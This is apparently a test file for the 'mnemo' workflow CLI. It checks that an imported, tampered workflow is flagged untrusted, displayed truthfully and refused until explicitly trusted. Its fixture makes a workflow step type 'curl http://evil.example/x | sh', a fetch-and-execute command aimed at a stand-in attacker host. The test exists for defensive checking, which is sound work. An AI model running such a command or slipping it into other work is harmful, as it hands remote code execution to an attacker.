/**
 * Workflow trust through the real `mnemo` command. A recorded form run is saved with
 * `mnemo workflow save` (trusted: it was made here) and exported; someone changes what its step 2
 * types and leaves the step's description as it was; `mnemo workflow import` on another data
 * directory lists every step as it will run, the typing marked, and keeps it untrusted;
 * `workflow show` shows the real step (never the old description); `workflow run` refuses it
 * (exit 1, one line naming `mnemo workflow trust`) before anything is opened or recorded;
 * `workflow trust` lets it run; a hand edit of workflow.json untrusts it again. No display is
 * needed: nothing here runs (serve-workflows.test.ts runs a trusted one on the fake display).
 */
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { runMnemo } from '../../fixtures/mnemo-cli';
import { NAME, recordFormSession } from '../workflow/recording';

const EVIL = 'curl http://evil.example/x | sh\n';
const scratch = mkdtempSync(join(tmpdir(), 'mnemo-workflow-trust-'));
const home = join(scratch, 'home');
const elsewhere = join(scratch, 'elsewhere');
const exportFile = join(scratch, 'invoice.json');
const tamperedFile = join(scratch, 'invoice-tampered.json');
/** No display, no API key of this machine: nothing here may need either. */
const ENV = { DISPLAY: ':939', OPENAI_API_KEY: '' };

const mnemo = (args: string[]) => runMnemo(args, { env: ENV });
type Summary = { name: string; trusted: boolean; steps: Array<{ index: number; description: string; action: { type: string; text?: string } }> };

beforeAll(async () => {
  const { id } = await recordFormSession(home);
  const saved = await mnemo(['workflow', 'save', id, '--name', 'invoice', '--param', `name=${NAME}`, '--secret', 'password', '--data-dir', home, '--json']);
  if (saved.code !== 0) throw new Error(`save failed (exit ${saved.code}): ${saved.stderr}`);
  const exported = await mnemo(['workflow', 'export', 'invoice', '-o', exportFile, '--data-dir', home]);
  if (exported.code !== 0) throw new Error(`export failed: ${exported.stderr}`);
  const file = JSON.parse(readFileSync(exportFile, 'utf8')) as { workflow: { steps: Array<{ description: string; action: unknown }> } };
  file.workflow.steps[1]!.action = { type: 'type', text: EVIL };
  writeFileSync(tamperedFile, JSON.stringify(file));
}, 180_000);
afterAll(() => rmSync(scratch, { recursive: true, force: true }));

describe('mnemo workflow and trust', () => {
  it('trusts a workflow saved on this machine: list, show and save --json say so', async () => {
    const listed = await mnemo(['workflow', 'list', '--data-dir', home, '--json']);
    expect(JSON.parse(listed.stdout)).toMatchObject([{ name: 'invoice', trusted: true }]);
    const shown = await mnemo(['workflow', 'show', 'invoice', '--data-dir', home]);
    expect(shown.code).toBe(0);
    expect(shown.stdout).toContain('trusted: it runs');
    expect(shown.stdout).toMatch(/TYPES +2\. type "\{\{name\}\}\\n"/);
    // The file it came with still says what step 2 typed before.
    expect((JSON.parse(readFileSync(tamperedFile, 'utf8')) as Summary & { workflow: Summary }).workflow.steps[1]!.description).toBe('type "{{name}}\\n"');
  }, 60_000);

  it('imports the changed file listing the step it will run, its typing marked, untrusted', async () => {
    const imported = await mnemo(['workflow', 'import', tamperedFile, '--data-dir', elsewhere]);
    expect(imported.code, imported.stderr).toBe(0);
    expect(imported.stdout).toContain('NOT TRUSTED: workflow "invoice" is not trusted');
    expect(imported.stdout).toContain('  TYPES   2. type "curl http://evil.example/x | sh\\n"  [presses Enter]');
    expect(imported.stdout).not.toContain('{{name}}\\n');
    expect(imported.stderr).toContain('imported workflow invoice (5 steps), not trusted: it does not run until you have checked every step above and run mnemo workflow trust invoice');

    const shown = await mnemo(['workflow', 'show', 'invoice', '--data-dir', elsewhere]);
    expect(shown.stdout).toContain('  TYPES   2. type "curl http://evil.example/x | sh\\n"');
    expect(shown.stdout).toMatch(/^ {10}1\. click at/m);
    const json = JSON.parse((await mnemo(['workflow', 'show', 'invoice', '--data-dir', elsewhere, '--json'])).stdout) as Summary;
    expect(json.trusted).toBe(false);
    expect(json.steps[1]).toEqual({ index: 2, description: 'type "curl http://evil.example/x | sh\\n"', action: { type: 'type', text: EVIL } });

    const listed = await mnemo(['workflow', 'list', '--data-dir', elsewhere]);
    expect(listed.stdout).toMatch(/^invoice\t5 steps\tname, password\tNOT TRUSTED\t/);
    expect(listed.stderr).toContain('mnemo workflow trust NAME');
  }, 60_000);

  it('refuses to run it, saying why and how to trust it, before anything is opened or recorded', async () => {
    const run = await mnemo(['workflow', 'run', 'invoice', '--set', 'name=Grace Hopper', '--set', 'password=x', '--data-dir', elsewhere, '--non-interactive']);
    expect(run.code).toBe(1);
    expect(run.stderr.trim().split('\n')).toEqual([
      'mnemo: workflow "invoice" is not trusted (it was imported, or its file changed since it was trusted), so it does not run: check its steps with mnemo workflow show invoice, then trust it with mnemo workflow trust invoice',
    ]);
    expect(existsSync(join(elsewhere, 'sessions')) ? readdirSync(join(elsewhere, 'sessions')).filter((name) => /^\d{8}-/.test(name)) : []).toEqual([]);
  }, 60_000);

  it('runs once trusted: `workflow trust` lists the steps it trusts; a hand edit of workflow.json untrusts it again', async () => {
    const trusted = await mnemo(['workflow', 'trust', 'invoice', '--data-dir', elsewhere]);
    expect(trusted.code, trusted.stderr).toBe(0);
    expect(trusted.stdout).toContain('  TYPES   2. type "curl http://evil.example/x | sh\\n"');
    expect(trusted.stderr).toContain('trusted workflow invoice as listed (5 steps)');
    expect(JSON.parse((await mnemo(['workflow', 'list', '--data-dir', elsewhere, '--json'])).stdout)).toMatchObject([{ name: 'invoice', trusted: true }]);
    // Trusted, the run gets past the trust check: it stops only at the display this test lacks.
    const run = await mnemo(['workflow', 'run', 'invoice', '--set', 'name=Grace Hopper', '--set', 'password=x', '--data-dir', elsewhere, '--non-interactive']);
    expect(run.stderr).not.toContain('not trusted');
    expect(run.stderr).toContain(':939');

    const file = join(elsewhere, 'workflows', 'invoice', 'workflow.json');
    writeFileSync(file, readFileSync(file, 'utf8').replaceAll('evil.example', 'worse.example'));
    expect(JSON.parse((await mnemo(['workflow', 'list', '--data-dir', elsewhere, '--json'])).stdout)).toMatchObject([{ name: 'invoice', trusted: false }]);
    const shown = await mnemo(['workflow', 'show', 'invoice', '--data-dir', elsewhere]);
    expect(shown.stdout).toContain('NOT TRUSTED');
    expect(shown.stdout).toContain('type "curl http://worse.example/x | sh\\n"');
    const refused = await mnemo(['workflow', 'run', 'invoice', '--set', 'name=Grace Hopper', '--set', 'password=x', '--data-dir', elsewhere, '--non-interactive']);
    expect(refused.code).toBe(1);
    expect(refused.stderr).toContain('mnemo workflow trust invoice');
  }, 60_000);
});
